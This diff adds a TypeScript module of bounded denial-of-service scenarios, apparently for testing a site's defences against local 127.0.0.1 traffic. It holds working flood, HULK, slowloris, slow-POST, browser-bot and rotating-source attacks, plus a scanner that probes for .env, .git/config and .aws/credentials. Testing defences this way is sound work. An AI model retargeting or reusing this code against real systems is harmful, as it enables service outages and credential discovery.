@@ -1,0 +1,272 @@
+// The attack scenarios: each a named, parameterised function. Attackers use
+// their own address range (one second octet per scenario, 127.200 and up).
+// Every loop is bounded by the scenario's end time and by an in-flight cap;
+// every target is 127.0.0.1.
+import http from 'node:http';
+import net from 'node:net';
+import { attackAddress, at, bucketOf, emptyAttackSecond, pick, rand, sleep, SITE_HOST, USER_AGENTS, PAGES, type AttackSecond } from './common.ts';
+
+export interface AttackContext {
+  port: number;
+  t0: number;
+  /** Absolute ms (Date.now()) when the attack stops. */
+  endAt: number;
+  seconds: AttackSecond[];
+  /** Sources the target visibly refused (403/429, refused or reset connections). */
+  blocked: Set<string>;
+  sources: Set<string>;
+  note: string[];
+}
+
+type Outcome = 'ok' | 'limited' | 'other' | 'error';
+const now = (ctx: AttackContext) => at(ctx.seconds, Math.max(0, bucketOf(ctx.t0)), emptyAttackSecond);
+const refusals = new Map<string, number>();
+
+function count(ctx: AttackContext, addr: string, o: Outcome, code?: string): void {
+  const s = now(ctx);
+  if (o === 'ok') s.ok++; else if (o === 'limited') s.limited++; else if (o === 'error') s.errors++; else s.other++;
+  if (o === 'limited' || (o === 'error' && (code === 'ECONNREFUSED' || code === 'ECONNRESET' || code === 'EPIPE'))) {
+    const n = (refusals.get(addr) ?? 0) + 1;
+    refusals.set(addr, n);
+    if (n >= 3) ctx.blocked.add(addr);
+  }
+}
+
+interface Hit { addr: string; agent: http.Agent | false; method?: string; path: string; headers?: http.OutgoingHttpHeaders; body?: Buffer | string; timeoutMs?: number; follow?: number }
+
+/** One request (following redirects without keeping cookies when follow > 0). */
+function hit(ctx: AttackContext, h: Hit): Promise<Outcome> {
+  ctx.sources.add(h.addr);
+  now(ctx).sent++;
+  return new Promise((resolve) => {
+    let done = false;
+    const finish = (o: Outcome, code?: string) => { if (done) return; done = true; count(ctx, h.addr, o, code); resolve(o); };
+    const req = http.request({ host: '127.0.0.1', port: ctx.port, method: h.method ?? 'GET', path: h.path, agent: h.agent, localAddress: h.agent ? undefined : h.addr, headers: { host: SITE_HOST, ...h.headers } }, (res) => {
+      res.resume();
+      res.on('end', () => {
+        const st = res.statusCode ?? 0;
+        if (st >= 300 && st < 400 && res.headers.location && (h.follow ?? 0) > 0) {
+          done = true;
+          const next = new URL(res.headers.location, `http://${SITE_HOST}${h.path}`);
+          hit(ctx, { ...h, path: next.pathname + next.search, follow: h.follow! - 1, method: 'GET', body: undefined }).then(resolve);
+          return;
+        }
+        // A redirect still unanswered after the follow budget: the bot did not get the page.
+        const exhausted = st >= 300 && st < 400 && h.follow !== undefined;
+        finish(st === 403 || st === 429 ? 'limited' : st < 400 && !exhausted ? 'ok' : 'other');
+      });
+      res.on('error', () => finish('error'));
+    });
+    req.setTimeout(h.timeoutMs ?? 5000, () => req.destroy(Object.assign(new Error('timeout'), { code: 'TIMEOUT' })));
+    req.on('error', (e: NodeJS.ErrnoException) => finish('error', e.code));
+    req.end(h.body);
+  });
+}
+
+/** Open-loop pacing at `rate` per second, at most `maxInflight` at once, until ctx.endAt. */
+async function paced(ctx: AttackContext, rate: number, maxInflight: number, fire: (n: number) => Promise<unknown>): Promise<void> {
+  let inflight = 0, n = 0, budget = 0, last = Date.now();
+  const pending = new Set<Promise<unknown>>();
+  while (Date.now() < ctx.endAt) {
+    const t = Date.now();
+    budget = Math.min(budget + ((t - last) / 1000) * rate, Math.max(1, rate / 20));
+    last = t;
+    while (budget >= 1 && inflight < maxInflight) {
+      budget--; inflight++;
+      const p: Promise<unknown> = fire(n++).catch(() => {}).finally(() => { inflight--; pending.delete(p); });
+      pending.add(p);
+    }
+    await sleep(5);
+  }
+  await Promise.race([Promise.all(pending), sleep(1000)]);
+}
+
+const agents = (ctx: AttackContext, addrs: string[], maxSockets: number) => {
+  const m = addrs.map((a) => new http.Agent({ keepAlive: true, maxSockets, localAddress: a }));
+  setTimeout(() => m.forEach((a) => a.destroy()), Math.max(0, ctx.endAt - Date.now() + 1500)).unref();
+  return m;
+};
+const randStr = (n: number) => Math.random().toString(36).slice(2, 2 + n);
+const browserHeaders = (ua: string): http.OutgoingHttpHeaders => ({
+  'user-agent': ua, accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
+  'accept-language': 'en-US,en;q=0.9', 'accept-encoding': 'gzip, deflate, br', 'upgrade-insecure-requests': '1',
+  'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate', 'sec-fetch-site': 'none',
+});
+
+export interface Scenario<P> {
+  describe: string;
+  octet: number;
+  defaults: P;
+  /** Scales the defaults down for --smoke. */
+  smoke?: Partial<P>;
+  run(ctx: AttackContext, p: P): Promise<void>;
+}
+
+function scenario<P>(s: Scenario<P>): Scenario<P> { return s; }
+
+export const SCENARIOS = {
+  flood: scenario({
+    describe: 'per-source flood: a few sources, keep-alive, pages as fast as allowed',
+    octet: 200,
+    defaults: { sources: 10, rate: 3000, connsPerSource: 32 },
+    async run(ctx, p) {
+      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
+      const ag = agents(ctx, addrs, p.connsPerSource);
+      await paced(ctx, p.rate, p.sources * p.connsPerSource, (n) => hit(ctx, { addr: addrs[n % addrs.length], agent: ag[n % addrs.length], path: pick(PAGES), headers: { 'user-agent': USER_AGENTS[0], accept: '*/*' } }));
+    },
+  }),
+  hulk: scenario({
+    describe: 'HULK-style cache-busting: random query strings and User-Agents, a new connection per request',
+    octet: 201,
+    defaults: { sources: 20, rate: 1500, maxInflight: 400 },
+    async run(ctx, p) {
+      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
+      await paced(ctx, p.rate, p.maxInflight, (n) => hit(ctx, {
+        addr: addrs[n % addrs.length], agent: false, path: `/?${randStr(4)}=${randStr(8)}`,
+        headers: { 'user-agent': `${pick(USER_AGENTS)} ${randStr(6)}`, 'cache-control': 'no-cache', referer: `http://www.google.com/?q=${randStr(10)}`, 'keep-alive': String(110 + rand(10)), connection: 'close' },
+      }));
+    },
+  }),
+  'low-and-slow': scenario({
+    describe: 'low-and-slow distributed flood on the expensive search: thousands of sources, each a request every 2 s',
+    octet: 202,
+    defaults: { sources: 2000, perSourceRate: 0.5 },
+    smoke: { sources: 600 },
+    async run(ctx, p) {
+      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
+      const ag = agents(ctx, addrs, 1);
+      await paced(ctx, p.sources * p.perSourceRate, p.sources, (n) => {
+        const i = n % addrs.length;
+        return hit(ctx, { addr: addrs[i], agent: ag[i], path: `/search?q=${pick(['shoes', 'gift', 'sale', 'dress'])}+${randStr(3)}`, headers: browserHeaders(USER_AGENTS[i % USER_AGENTS.length]) });
+      });
+    },
+  }),
+  slowloris: scenario({
+    describe: 'slowloris: many connections, each sending a header line every few seconds, never finishing the request',
+    octet: 203,
+    defaults: { sources: 50, connsPerSource: 24, headerIntervalMs: 4000 },
+    async run(ctx, p) {
+      const socks = new Set<net.Socket>();
+      let open = 0;
+      const one = (addr: string) => {
+        if (Date.now() >= ctx.endAt) return;
+        ctx.sources.add(addr);
+        now(ctx).sent++;
+        const opened = Date.now();
+        const s = net.connect({ port: ctx.port, host: '127.0.0.1', localAddress: addr });
+        socks.add(s);
+        let timer: NodeJS.Timeout | null = null;
+        s.on('connect', () => {
+          open++;
+          s.write(`GET /?${randStr(6)} HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nAccept-Language: en-US,en;q=0.5\r\n`);
+          timer = setInterval(() => s.write(`X-${randStr(4)}: ${randStr(6)}\r\n`), p.headerIntervalMs);
+        });
+        s.on('data', () => {});
+        s.on('error', (e: NodeJS.ErrnoException) => count(ctx, addr, 'error', e.code));
+        s.on('close', (hadError) => {
+          if (timer) { clearInterval(timer); open--; }
+          socks.delete(s);
+          // Closed by the target soon after opening: the target is refusing this source.
+          if (!hadError && Date.now() - opened < 1000) count(ctx, addr, 'error', 'ECONNRESET');
+          else if (!hadError) count(ctx, addr, 'other');
+          if (Date.now() < ctx.endAt) setTimeout(() => one(addr), 100);
+        });
+      };
+      for (let i = 0; i < p.sources; i++) for (let k = 0; k < p.connsPerSource; k++) setTimeout(() => one(attackAddress(this.octet, i)), rand(1000));
+      while (Date.now() < ctx.endAt) { now(ctx).open = open; await sleep(200); }
+      for (const s of socks) s.destroy();
+    },
+  }),
+  'slow-post': scenario({
+    describe: 'slow POST (a big Content-Length, 10 bytes a second) plus a large-body POST flood on /login',
+    octet: 204,
+    defaults: { slowSources: 20, slowConnsPerSource: 10, declaredBytes: 100_000, bytesPerSecond: 10, largeSources: 10, largeRate: 40, largeBytes: 2_000_000 },
+    async run(ctx, p) {
+      const socks = new Set<net.Socket>();
+      let open = 0;
+      const slow = (addr: string) => {
+        if (Date.now() >= ctx.endAt) return;
+        ctx.sources.add(addr);
+        now(ctx).sent++;
+        const opened = Date.now();
+        const s = net.connect({ port: ctx.port, host: '127.0.0.1', localAddress: addr });
+        socks.add(s);
+        let timer: NodeJS.Timeout | null = null;
+        s.on('connect', () => {
+          open++;
+          s.write(`POST /login HTTP/1.1\r\nHost: ${SITE_HOST}\r\nUser-Agent: ${pick(USER_AGENTS)}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${p.declaredBytes}\r\n\r\nuser=`);
+          timer = setInterval(() => s.write('a'.repeat(p.bytesPerSecond)), 1000);
+        });
+        s.on('data', () => {});
+        s.on('error', (e: NodeJS.ErrnoException) => count(ctx, addr, 'error', e.code));
+        s.on('close', (hadError) => {
+          if (timer) { clearInterval(timer); open--; }
+          socks.delete(s);
+          if (!hadError) count(ctx, addr, Date.now() - opened < 1000 ? 'error' : 'other', 'ECONNRESET');
+          if (Date.now() < ctx.endAt) setTimeout(() => slow(addr), 100);
+        });
+      };
+      for (let i = 0; i < p.slowSources; i++) for (let k = 0; k < p.slowConnsPerSource; k++) setTimeout(() => slow(attackAddress(this.octet, i)), rand(1000));
+      const big = Buffer.alloc(p.largeBytes, 'x');
+      const addrs = Array.from({ length: p.largeSources }, (_, i) => attackAddress(this.octet, 1000 + i));
+      const ag = agents(ctx, addrs, 4);
+      const flood = paced(ctx, p.largeRate, p.largeSources * 4, (n) => hit(ctx, {
+        addr: addrs[n % addrs.length], agent: ag[n % addrs.length], method: 'POST', path: '/login', body: big,
+        headers: { 'user-agent': pick(USER_AGENTS), 'content-type': 'application/x-www-form-urlencoded', 'content-length': big.length },
+      }));
+      while (Date.now() < ctx.endAt) { now(ctx).open = open; await sleep(200); }
+      await flood;
+      for (const s of socks) s.destroy();
+    },
+  }),
+  'browser-bot': scenario({
+    describe: 'browser-mimicking bot: browser headers, fetches the page and its assets, no think time, keeps no cookies',
+    octet: 205,
+    defaults: { sources: 30, pageRate: 300, connsPerSource: 4 },
+    async run(ctx, p) {
+      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
+      const ag = agents(ctx, addrs, p.connsPerSource);
+      const assets = ['/static/site.css', '/static/app.js', '/static/logo.png', '/static/hero.png', '/favicon.ico'];
+      await paced(ctx, p.pageRate, p.sources * p.connsPerSource, async (n) => {
+        const i = n % addrs.length, ua = USER_AGENTS[i % USER_AGENTS.length], page = pick(PAGES);
+        const o = await hit(ctx, { addr: addrs[i], agent: ag[i], path: page, headers: browserHeaders(ua), follow: 2 });
+        if (o !== 'ok') return;
+        await Promise.all(assets.map((a) => hit(ctx, { addr: addrs[i], agent: ag[i], path: a, headers: { ...browserHeaders(ua), accept: '*/*', 'sec-fetch-dest': 'image', 'sec-fetch-mode': 'no-cors', 'sec-fetch-site': 'same-origin', referer: `http://${SITE_HOST}${page}` } })));
+      });
+    },
+  }),
+  rotating: scenario({
+    describe: 'rotating sources: each address sends a handful of page requests and is never seen again',
+    octet: 206,
+    defaults: { rate: 1000, requestsPerSource: 5, maxInflight: 400 },
+    async run(ctx, p) {
+      let srcNo = -1, left = 0;
+      let agent: http.Agent | null = null, addr = '';
+      const all: http.Agent[] = [];
+      await paced(ctx, p.rate, p.maxInflight, (n) => {
+        if (left === 0) {
+          srcNo++; left = p.requestsPerSource; addr = attackAddress(this.octet, srcNo);
+          const old = agent; if (old) setTimeout(() => old.destroy(), 3000);
+          agent = new http.Agent({ keepAlive: true, maxSockets: 2, localAddress: addr }); all.push(agent);
+        }
+        left--;
+        return hit(ctx, { addr, agent: agent!, path: pick(PAGES), headers: browserHeaders(USER_AGENTS[n % USER_AGENTS.length]) });
+      });
+      for (const a of all) a.destroy();
+      ctx.note.push(`${srcNo + 1} distinct addresses`);
+    },
+  }),
+  'scan-404': scenario({
+    describe: '404 scanning: a vulnerability scanner walking a word list of paths that do not exist',
+    octet: 208,
+    defaults: { sources: 20, rate: 1500, connsPerSource: 4 },
+    async run(ctx, p) {
+      const words = ['wp-admin', 'wp-login.php', '.env', '.git/config', 'phpmyadmin', 'admin', 'backup.zip', 'config.php', 'server-status', 'xmlrpc.php', 'cgi-bin/test.cgi', 'vendor/phpunit', 'actuator/health', 'api/v1/debug', 'old', 'test', 'db.sql', '.aws/credentials'];
+      const addrs = Array.from({ length: p.sources }, (_, i) => attackAddress(this.octet, i));
+      const ag = agents(ctx, addrs, p.connsPerSource);
+      await paced(ctx, p.rate, p.sources * p.connsPerSource, (n) => hit(ctx, { addr: addrs[n % addrs.length], agent: ag[n % addrs.length], path: `/${pick(words)}${n % 3 ? '' : '/' + randStr(5)}`, headers: { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine)', accept: '*/*' } }));
+    },
+  }),
+} satisfies Record<string, Scenario<never> | Scenario<any>>; // eslint-disable-line @typescript-eslint/no-explicit-any
+
+export type ScenarioName = keyof typeof SCENARIOS;
